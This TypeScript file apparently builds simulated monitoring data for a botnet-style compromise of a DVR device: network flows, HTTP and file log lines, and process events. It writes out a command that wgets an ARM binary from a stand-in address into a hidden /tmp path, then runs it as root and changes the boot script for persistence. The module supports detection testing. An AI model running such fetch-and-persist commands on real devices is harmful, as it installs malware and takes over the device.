import { SECOND_MS } from '@/lib/domain/time'
import { aFlow, aLogLine, anEvent, endsOf, type Activity, type Flow } from './activity'
import type { Breach } from './breaches'
import { clientPortOf } from './ordinary-traffic'

const LOADER = '192.0.2.130'
const PROGRAM = '/tmp/.qsd/dvrhelp'
const KIND = 'application/x-executable'

const fetchOf = ({ device, at }: Breach): Flow => ({
  site: device.site,
  at: at + 70 * SECOND_MS,
  from: device.ip,
  to: LOADER,
  port: 80,
  fromPort: clientPortOf(device.id, 'load'),
  service: 'http',
  lastingMs: 2_600,
  sent: 180,
  received: 118_400,
})

/** What the monitor sees of it: a program fetched from a bare address. */
const seenOf = (flow: Flow): Activity[] => [
  aFlow(flow),
  aLogLine(flow.site, 'http', flow.at + 50, {
    ...endsOf(flow),
    method: 'GET',
    host: LOADER,
    uri: '/bins/q.arm7',
    user_agent: 'Wget',
    status_code: 200,
    request_body_len: 0,
    response_body_len: 118_144,
    resp_mime_types: [KIND],
  }),
  aLogLine(flow.site, 'files', flow.at + 90, {
    lastingMs: 2_100,
    ...endsOf(flow),
    source: 'HTTP',
    is_orig: false,
    mime_type: KIND,
    filename: 'q.arm7',
    duration: 2.1,
    seen_bytes: 118_144,
  }),
]

/** The program is fetched, kept and started, and sees to it that it is started again. */
export const loadOf = (breach: Breach): Activity[] => {
  const { device } = breach
  const flow = fetchOf(breach)
  const started = { kind: 'process', action: 'started', user: 'root' }
  const commandLine = `wget http://${LOADER}/bins/q.arm7 -O ${PROGRAM}`
  return [
    ...seenOf(flow),
    anEvent(device, flow.at, { ...started, name: 'wget', path: '/usr/bin/wget', commandLine }),
    anEvent(device, flow.at + 9_000, { ...started, name: 'dvrhelp', path: PROGRAM, commandLine: PROGRAM }),
    anEvent(device, flow.at + 12_000, { kind: 'file', action: 'modified', path: '/etc/init.d/rcS' }),
  ]
}
